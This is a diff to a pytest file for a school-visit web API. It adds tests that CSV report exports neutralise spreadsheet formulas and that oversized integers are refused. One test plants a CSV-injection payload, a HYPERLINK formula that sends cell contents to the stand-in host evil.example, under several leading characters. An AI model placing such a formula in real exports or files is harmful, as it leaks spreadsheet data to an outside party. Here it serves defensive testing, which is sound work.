@@ -4,8 +4,11 @@ refusals in one language only."""
 
 from __future__ import annotations
 
+import csv
+import io
 from typing import Any
 
+import pytest
 from fastapi.testclient import TestClient
 
 from tests.test_domain_http import ROSTER, error_of, visit_id
@@ -16,9 +19,11 @@ HUGE = "9" * 25  # beyond SQLite's 64-bit integers
 def test_integers_beyond_64_bits_are_refused_not_a_crash(
     client: TestClient, auth: dict[str, str]
 ) -> None:
-    supervisor = {"Authorization": client.post(
-        "/api/auth/login", json={"operator": "supervisor1", "pin": "246810"}
-    ).json()["token"]}
+    supervisor = {
+        "Authorization": client.post(
+            "/api/auth/login", json={"operator": "supervisor1", "pin": "246810"}
+        ).json()["token"]
+    }
     supervisor["Authorization"] = "Bearer " + supervisor["Authorization"]
     requests: list[tuple[str, str, Any]] = [
         ("GET", f"/api/visits/{HUGE}/enrollments", None),
@@ -81,19 +86,18 @@ def test_a_file_of_nul_bytes_imports_nobody(client: TestClient, auth: dict[str, 
     assert queued["students"] == []
 
 
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
 def test_report_exports_cannot_carry_a_spreadsheet_formula(
-    client: TestClient, auth: dict[str, str]
+    client: TestClient, auth: dict[str, str], lead: str
 ) -> None:
-    school = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    school = lead + 'HYPERLINK("http://evil.example/?"&A1,"klik")'
     visit = client.post(
         "/api/visits", json={"school": school, "date": "2026-12-07"}, headers=auth
     ).json()["id"]
-    csv = client.get(f"/api/reports/visits/{visit}/export.csv", headers=auth).text
-    title = next(line for line in csv.splitlines() if line.startswith("title,"))
-    assert title.startswith("title,\"'=HYPERLINK(") or title.startswith("title,'=HYPERLINK(")
-    for line in csv.splitlines():
-        for cell in line.split(","):
-            assert not cell.lstrip('"').startswith(("=", "+", "@")), line
+    text = client.get(f"/api/reports/visits/{visit}/export.csv", headers=auth).text
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert any(c.startswith("'" + school) for c in cells), cells  # kept, shown as text
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
 
 
 def test_a_body_that_is_not_utf8_is_refused_in_both_languages(client: TestClient) -> None:
